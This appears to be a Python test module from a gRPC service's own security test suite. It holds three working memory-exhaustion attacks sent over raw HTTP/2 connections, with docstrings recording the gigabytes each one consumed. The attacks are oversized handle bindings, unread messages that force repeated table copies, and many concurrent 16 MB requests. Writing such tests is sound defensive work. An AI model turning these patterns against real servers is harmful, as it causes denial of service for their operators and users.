"""Attacks on memory: a client makes the server hold more than it should."""

from __future__ import annotations

import asyncio

from stepstate.v1 import stepstate_pb2 as pb
from tests.attacks.attack import Target
from tests.attacks.http2 import frame, raw_connection

SERVICE = "/stepstate.v1.StepstateService"
MIB = 2**20


async def bindings_of_a_megabyte(target: Target, count: int) -> None:
    """Binds handles to ids of 1 MB on one packed stream, so many times.

    1,800 of them took 2.2 GB, kept as long as the stream lives.
    """
    async with raw_connection(target.address) as connection:
        stream = connection.open(f"{SERVICE}/StreamPacked")
        for first in range(0, count, 15):
            message = pb.StreamPackedRequest(id=first)
            for handle in range(first, min(first + 15, count)):
                message.bindings.add(handle=handle, session_id="x" * MIB)
            await connection.send(stream, frame(message))
        await connection.flush()
        await asyncio.sleep(1)


async def tables_of_unread_messages(target: Target, count: int) -> None:
    """Binds the highest handle, then sends small messages that bind a handle, and reads nothing.

    The table of handles was copied for each message that changed it, 6 MB each time, and each
    message without an answer kept its own: 1,024 of them took 2.7 GB.
    """
    async with raw_connection(target.address, window=0) as connection:
        stream = connection.open(f"{SERVICE}/StreamPacked")
        message = pb.StreamPackedRequest(id=0)
        message.bindings.add(handle=262_143, session_id="none")
        await connection.send(stream, frame(message))
        for number in range(count):
            message = pb.StreamPackedRequest(id=number)
            message.bindings.add(handle=number, session_id="none")
            await connection.send(stream, frame(message))
        await connection.flush()
        await asyncio.sleep(3)


async def requests_of_16_megabytes(target: Target, count: int) -> None:
    """Sends the largest requests on as many calls at once.

    100 of them took 4.9 GB.
    """
    message = frame(pb.StepRequest(session_id="none", x=bytes(4_000_000)))
    async with raw_connection(target.address) as connection:
        streams = [connection.open(f"{SERVICE}/Step") for _ in range(count)]
        async with asyncio.TaskGroup() as group:
            for stream in streams:
                group.create_task(connection.send(stream, message, end=True))
        await connection.until_ended(streams)
